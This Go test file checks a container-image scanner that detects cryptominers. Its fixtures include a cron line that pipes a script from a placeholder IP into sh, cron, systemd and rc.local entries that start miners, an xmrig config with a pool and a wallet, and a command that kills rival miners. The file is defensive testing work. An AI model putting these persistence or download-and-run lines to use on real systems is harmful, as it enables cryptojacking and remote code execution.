package hierarchical_test

import (
	"context"
	"os"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/strata-sec/strata/detectors"
	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/detectors/hierarchical"
)

const wallet = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"

func scan(t *testing.T, img v1.Image, opts ...hierarchical.Option) detectors.Verdict {
	t.Helper()
	v, err := hierarchical.New(opts...).Scan(context.Background(), img)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	return v
}

func findings(v detectors.Verdict, rule string) []detectors.Finding {
	var out []detectors.Finding
	for _, f := range v.Findings {
		if f.Rule == rule {
			out = append(out, f)
		}
	}
	return out
}

func testdata(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// machineFile reads a file of this machine, skipping the test without it.
func machineFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Skipf("%s not available: %v", p, err)
	}
	return string(b)
}

func elfWith(t *testing.T, extra ...string) string {
	return machineFile(t, "/bin/ls") + "\x00" + strings.Join(extra, "\x00") + "\x00"
}

// TestFileRules: rules that look at files in layers, each with positives and
// realistic negatives. Every negative image must also stay below threshold.
func TestFileRules(t *testing.T) {
	cpuMinerC := `static bool stratum_subscribe(struct stratum_ctx *sctx)
{
	sprintf(s, "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"" USER_AGENT "\"]}");
}
static bool stratum_authorize(struct stratum_ctx *sctx, const char *user, const char *pass)
{
	sprintf(s, "{\"id\": 2, \"method\": \"mining.authorize\", \"params\": [\"%s\", \"%s\"]}", user, pass);
	if (!strncasecmp(rpc_url, "stratum+tcp://", 14)) have_stratum = true;
}`
	electrumPy := `def subscribe(self):
    return self.request("blockchain.scripthash.subscribe", [sh])
def version(self):
    return self.request("server.version", ["electrum", "1.4"])`
	xmrigConfig := `{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true},
    "pools": [{"url": "gulf.moneroocean.stream:10128", "user": "` + wallet + `", "pass": "x", "tls": false}]
}`
	tests := []struct {
		name      string
		createdBy string
		files     func(t *testing.T) []dt.File
		rule      string
		want      bool
	}{
		// miner-binary
		{"miner name in PATH", "COPY xmrig /usr/local/bin/ # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Exec("usr/local/bin/xmrig", "#!/bin/true\n")} }, hierarchical.RuleMinerBinary, true},
		{"non-exec ELF named minerd", "ADD minerd /bin/minerd # buildkit",
			func(t *testing.T) []dt.File { return []dt.File{{Name: "bin/minerd", Body: elfWith(t), Mode: 0o644}} }, hierarchical.RuleMinerBinary, true},
		{"symlink named like a miner", "RUN ln -s # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Symlink("usr/bin/xmrig", "../lib/xmrig/xmrig-6.21.0")} }, hierarchical.RuleMinerBinary, true},
		{"bash completion named xmrig", "RUN apt-get install # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("usr/share/bash-completion/completions/xmrig", "complete -F _xmrig xmrig\n")}
			}, hierarchical.RuleMinerBinary, false},
		{"python module named miner", "RUN pip install # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Exec("usr/lib/python3/dist-packages/nltk/miner.py", "x = 1\n")}
			}, hierarchical.RuleMinerBinary, false},
		// exec-added-path
		{"COPY of an executable into PATH", "COPY --chmod=755 tool /usr/local/bin/tool # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Exec("usr/local/bin/tool", "#!/bin/sh\necho hi\n")} }, hierarchical.RuleExecAddedPath, true},
		{"RUN that installs into PATH", "RUN apt-get install -y curl # buildkit",
			func(t *testing.T) []dt.File { return []dt.File{dt.Exec("usr/bin/curl", elfWith(t))} }, hierarchical.RuleExecAddedPath, false},
		{"COPY of an executable outside PATH", "COPY app /opt/app # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Exec("opt/app/run", "#!/bin/sh\n")} }, hierarchical.RuleExecAddedPath, false},
		// Binary
		{"ELF with stratum methods", "ADD m /opt/m # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Exec("opt/m", elfWith(t, "mining.subscribe", "mining.authorize", "mining.submit"))}
			}, hierarchical.RuleELFStratum, true},
		{"ELF with xmrig json-rpc login", "ADD m /opt/m # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Exec("opt/m", elfWith(t, "login", "job_id", "keepalived", "mining.notify"))}
			}, hierarchical.RuleELFStratum, true},
		{"ELF with mining algorithms", "ADD m /opt/m # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Exec("opt/m", elfWith(t, "cryptonight", "rx/0", "cn/r"))}
			},
			hierarchical.RuleELFAlgorithms, true},
		{"ELF with miner agent", "ADD m /opt/m # buildkit",
			func(t *testing.T) []dt.File { return []dt.File{dt.Exec("opt/m", elfWith(t, "XMRig/%s", "libuv/%s"))} },
			hierarchical.RuleELFMinerAgent, true},
		{"/bin/ls is clean", "RUN apt-get install coreutils # buildkit",
			func(t *testing.T) []dt.File { return []dt.File{dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls"))} }, hierarchical.RuleELFStratum, false},
		{"libcrypto names no mining algorithms", "RUN apt-get install libssl3 # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("usr/lib/x86_64-linux-gnu/libcrypto.so.3", machineFile(t, "/usr/lib/x86_64-linux-gnu/libcrypto.so.3"))}
			}, hierarchical.RuleELFAlgorithms, false},
		{"crypto library strings", "RUN make # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("usr/lib/libsodium.so.23", elfWith(t, "argon2id", "scrypt", "sha256", "chacha20"))}
			}, hierarchical.RuleELFAlgorithms, false},
		{"miner client source", "RUN git clone # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Text("src/cpuminer-multi/util.c", cpuMinerC)} }, hierarchical.RuleStratumSource, true},
		{"electrum client source", "RUN pip install electrum # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("usr/lib/python3/electrum/network.py", electrumPy)}
			}, hierarchical.RuleStratumSource, false},
		{"stratum scheme constant is not a URL", "RUN git clone # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Text("src/cpuminer-multi/util.c", cpuMinerC)} }, hierarchical.RuleStratumURL, false},
		// Domain/IP and wallet in files
		{"xmrig config: pool", "COPY config.json /opt/ # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Text("opt/xmrig/config.json", xmrigConfig)} }, hierarchical.RulePoolDomain, true},
		{"xmrig config: options", "COPY config.json /opt/ # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Text("opt/xmrig/config.json", xmrigConfig)} }, hierarchical.RuleMinerOptions, true},
		{"xmrig config: wallet", "COPY config.json /opt/ # buildkit",
			func(*testing.T) []dt.File { return []dt.File{dt.Text("opt/xmrig/config.json", xmrigConfig)} }, hierarchical.RuleMoneroWallet, true},
		{"git config of a miner clone", "RUN git clone # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("cpuminer-multi/.git/config", "[remote \"origin\"]\n\turl = https://github.com/OhGodAPet/cpuminer-multi\n")}
			}, hierarchical.RuleMinerRepo, true},
		{"git config of another repo", "RUN git clone # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("src/monero/.git/config", "[remote \"origin\"]\n\turl = https://github.com/monero-project/monero\n")}
			}, hierarchical.RuleMinerRepo, false},
		{"lookalike pool domains", "COPY hosts /etc/ # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("etc/app/hosts.conf", "api=notminexmr.com\nmirror=minexmr.com.example.org\nshop=nanopool.organic\n")}
			}, hierarchical.RulePoolDomain, false},
		{"monero README: wallet only as documentation", "RUN apt-get install monero # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("usr/share/doc/monero/README.md", testdata(t, "monero-README.md"))}
			}, hierarchical.RuleMoneroWallet, false},
		{"monero README counts as weak doc reference", "RUN apt-get install monero # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("usr/share/doc/monero/README.md", testdata(t, "monero-README.md"))}
			}, hierarchical.RuleDocMiningReference, true},
		{"python stratum package text", "RUN pip install stratum # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("usr/lib/python3/dist-packages/stratum-0.2.13.egg-info/PKG-INFO", testdata(t, "python-stratum-PKG-INFO"))}
			}, hierarchical.RuleStratumURL, false},
		{"base64 blob in javascript", "COPY app /srv # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("srv/app/bundle.js", `var img="data:image/png;base64,`+strings.Repeat("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg", 30)+`";`)}
			}, hierarchical.RuleMoneroWallet, false},
		// Persistence files
		{"cron.d miner", "COPY root /etc/cron.d/root # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("etc/cron.d/root", "* * * * * root /tmp/.x/xmrig -o pool.minexmr.com:4444 -B\n")}
			}, hierarchical.RulePersistenceMiner, true},
		{"user crontab download-exec", "RUN crontab # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("var/spool/cron/crontabs/root", "*/5 * * * * curl -fsSL http://203.0.113.8/a.sh | sh\n")}
			}, hierarchical.RulePersistenceFetch, true},
		{"systemd miner unit", "COPY m.service /etc/systemd/system/ # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Text("etc/systemd/system/c3pool_miner.service", "[Unit]\nDescription=Monero miner service\n[Service]\nExecStart=/root/c3pool/xmrig --config=/root/c3pool/config.json\nRestart=always\n")}
			}, hierarchical.RulePersistenceMiner, true},
		{"rc.local miner", "RUN echo # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Exec("etc/rc.local", "#!/bin/sh -e\nnohup /usr/bin/minerd -a cryptonight -o stratum+tcp://203.0.113.9:3333 >/dev/null 2>&1 &\nexit 0\n")}
			}, hierarchical.RulePersistenceMiner, true},
		{"Debian logrotate cron job", "RUN apt-get install logrotate # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Exec("etc/cron.daily/logrotate", testdata(t, "debian/cron.daily-logrotate"))}
			}, hierarchical.RulePersistenceMiner, false},
		{"Debian apt-compat cron job", "RUN apt-get install apt # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Exec("etc/cron.daily/apt-compat", testdata(t, "debian/cron.daily-apt-compat"))}
			}, hierarchical.RulePersistenceFetch, false},
		{"Debian e2scrub cron.d", "RUN apt-get install e2fsprogs # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("etc/cron.d/e2scrub_all", testdata(t, "debian/cron.d-e2scrub_all"))}
			}, hierarchical.RulePersistenceMiner, false},
		{"Debian apt-daily unit", "RUN apt-get install apt # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("lib/systemd/system/apt-daily.service", testdata(t, "debian/apt-daily.service"))}
			}, hierarchical.RulePersistenceFetch, false},
		{"Debian shell profiles", "RUN apt-get install bash # buildkit",
			func(t *testing.T) []dt.File {
				return []dt.File{dt.Text("etc/bash.bashrc", testdata(t, "debian/bash.bashrc")), dt.Text("etc/profile", testdata(t, "debian/profile"))}
			}, hierarchical.RulePersistenceMiner, false},
		// Shell scripts in layers
		{"miner start script", "COPY start.sh / # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Exec("start.sh", "#!/bin/bash\nsysctl -w vm.nr_hugepages=1280\nexec ./xmrig -o pool.supportxmr.com:443 --tls -u "+wallet+"\n")}
			}, hierarchical.RuleRunMiner, true},
		{"script detected by shebang only", "COPY run /usr/local/bin/run # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Exec("usr/local/bin/run", "#!/usr/bin/env bash\npkill -f kdevtmpfsi\n")}
			}, hierarchical.RuleKillCompetitors, true},
		{"entrypoint script of an official image", "COPY docker-php-entrypoint /usr/local/bin/ # buildkit",
			func(*testing.T) []dt.File {
				return []dt.File{dt.Exec("usr/local/bin/docker-php-entrypoint", "#!/bin/sh\nset -e\n\n# first arg is `-f` or `--some-option`\nif [ \"${1#-}\" != \"$1\" ]; then\n\tset -- apache2-foreground \"$@\"\nfi\n\nexec \"$@\"\n")}
			}, hierarchical.RuleRunMiner, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			img := dt.Image(t, v1.Config{}, dt.Step{CreatedBy: tt.createdBy, Files: tt.files(t)})
			v := scan(t, img)
			got := findings(v, tt.rule)
			if (len(got) > 0) != tt.want {
				t.Errorf("rule %s fired = %v, want %v; findings: %+v", tt.rule, len(got) > 0, tt.want, v.Findings)
			}
			if !tt.want && v.Decision == detectors.Malicious {
				t.Errorf("negative case judged malicious (score %v): %+v", v.Score, v.Findings)
			}
			for _, f := range got {
				if f.Layer != 0 || f.DiffID == "" || f.CreatedBy != tt.createdBy || f.Path == "" {
					t.Errorf("finding lacks provenance: %+v", f)
				}
			}
		})
	}
}

// TestChunkBoundary: a pool URL straddling the 1 MiB chunk boundary is found
// once, whole.
func TestChunkBoundary(t *testing.T) {
	const url = "stratum+tcp://pool.supportxmr.com:3333"
	body := strings.Repeat("a ", (1<<20)/2-10) + " " + url + " " + strings.Repeat("b ", 100)
	img := dt.Image(t, v1.Config{}, dt.Step{CreatedBy: "COPY x /x", Files: []dt.File{dt.Text("opt/app/data.conf", body)}})
	v := scan(t, img)
	got := findings(v, hierarchical.RuleStratumURL)
	if len(got) != 1 || got[0].Evidence != url {
		t.Errorf("stratum findings = %+v, want one with %q", got, url)
	}
}
